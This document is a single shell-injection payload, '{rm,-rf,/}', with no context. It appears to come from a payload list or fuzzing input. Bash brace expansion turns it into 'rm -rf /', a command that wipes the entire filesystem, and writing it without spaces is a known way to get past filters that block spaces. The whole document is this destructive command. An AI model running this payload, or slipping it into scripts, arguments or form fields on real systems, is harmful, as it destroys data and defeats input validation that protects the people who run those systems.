{rm,-rf,/}
